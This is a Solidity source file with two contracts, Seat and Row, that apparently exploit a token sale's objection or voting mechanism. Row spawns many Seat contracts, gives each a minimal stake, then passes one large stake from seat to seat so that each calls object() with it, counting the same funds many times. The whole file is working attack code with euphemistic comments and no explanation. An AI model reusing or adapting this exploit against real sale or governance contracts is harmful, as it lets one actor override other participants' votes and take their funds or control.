/// Holds a small place of its own, and a large one for a while.
contract Seat {
    function sit(Sale sale, Token coin) external {
        uint256 amount = coin.balanceOf(address(this));
        coin.approve(address(sale), amount);
        sale.join(amount);
    }

    function objectAndPass(Sale sale, address to) external {
        sale.object();
        sale.movePlace(to);
    }
}

/// Passes a place from seat to seat, each of which has a small place already.
contract Row {
    Seat[] private seats;

    function enter(Sale sale, Token coin, uint256 amount, uint256 times) external {
        for (uint256 i = 0; i <= times; i++) {
            Seat seat = new Seat();
            coin.transfer(address(seat), 1e12);
            seat.sit(sale, coin);
            seats.push(seat);
        }
        coin.approve(address(sale), amount);
        sale.join(amount);
    }

    function run(Sale sale) external {
        sale.movePlace(address(seats[0]));
        for (uint256 i = 0; i + 1 < seats.length; i++) {
            try seats[i].objectAndPass(sale, address(seats[i + 1])) {} catch {
                return;
            }
        }
    }
}
